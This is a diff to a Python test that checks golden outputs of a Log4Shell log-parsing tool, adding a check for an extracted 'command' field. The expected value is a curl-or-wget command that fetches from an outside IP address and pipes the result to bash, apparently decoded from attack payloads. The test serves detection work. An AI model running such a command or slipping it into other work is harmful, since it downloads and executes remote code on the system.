@@ -24,10 +24,16 @@ def table(case):
     return t
 
 
+CURL = ("(curl -s 195.54.160.149:5874/52.54.237.64:80||"
+        "wget -q -O- 195.54.160.149:5874/52.54.237.64:80)|bash")
+
+
 def check(row, exploit, proto, host, port, path, payloads=None):
     got = (row["x_log4shell_exploit"], row["x_log4shell_protocol"], row["x_log4shell_host"],
            row["x_log4shell_port"], row["x_log4shell_path"])
     assert got == (exploit, proto, host, port, path), got
+    want_command = CURL if path and "/Base64/" in path else None
+    assert row["x_log4shell_command"] == want_command, row["x_log4shell_command"]
     if exploit is None:
         assert row["x_log4shell_payloads"] is None
     else:
@@ -63,5 +69,6 @@ for r in url[4:]:   # benign, null, $$-escaped, unclosed
 
 empty = pq.read_table(os.path.join(HERE, "empty-input/expected/output/0.parquet.gz"))
 assert empty.num_rows == 0
-assert set(empty.column_names) >= {"id", "type", "x_log4shell_exploit", "x_log4shell_port"}
+assert set(empty.column_names) >= {"id", "type", "x_log4shell_exploit", "x_log4shell_port",
+                                   "x_log4shell_command"}
 print("log4shell goldens: all values as expected")
